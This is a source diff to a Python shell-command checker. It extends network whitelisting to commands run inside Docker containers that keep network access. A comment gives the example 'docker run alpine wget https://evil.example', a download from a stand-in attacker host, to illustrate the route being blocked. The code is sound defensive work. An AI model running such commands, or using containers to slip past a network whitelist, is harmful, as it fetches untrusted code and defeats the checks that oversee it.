@@ -3567,6 +3567,15 @@ def _container_command(
     if entry is not None and command and command[0] != entry[0]:
         command.insert(0, entry[0])  # round 21s: ``alpine/git push``: the image's program is git
         workdir = workdir or entry[1]
+    if command and not _no_network(args[first:image]):
+        given = args[image + 1 :]
+        if entry is not None and (not given or given[0].value != entry[0]):
+            given = [Word(entry[0], entry[0]), *given]  # ``curlimages/curl URL`` runs curl
+        verdict = check_argv(given, ctx, depth + 1, seg)
+        if verdict.rule in _NETWORK_RULES:
+            # round 24: the container reaches the network through this machine's (``docker
+            # run alpine wget https://evil.example``): its hosts are the whitelist's
+            return verdict
     if not mounts or not command or None in command:
         return ALLOW
     changed = False
@@ -3596,6 +3605,21 @@ def _container_command(
     if inside is not None and verdict.rule in _PUBLISHING_RULES:
         return verdict  # round 21s: ``-w /w npm publish``: the mounted project is published
     return ALLOW  # a command that names no mount (``bash``, ``pytest``): only its damage counts
+
+
+_NETWORK_RULES = word_set("network-not-whitelisted network-unknown-target network-proxy")
+"""Refusals of a connection: a container on the default network makes it through this
+machine's."""
+
+
+def _no_network(options: list[Word]) -> bool:
+    """Whether a container's options give it no network (``--network none``, ``--net=none``)."""
+    values = [a.value for a in options]
+    return any(
+        v in {"--network=none", "--net=none"}
+        or (v in {"--network", "--net"} and k + 1 < len(values) and values[k + 1] == "none")
+        for k, v in enumerate(values)
+    )
 
 
 _PUBLISHING_RULES = word_set("git-push publish docker-push")
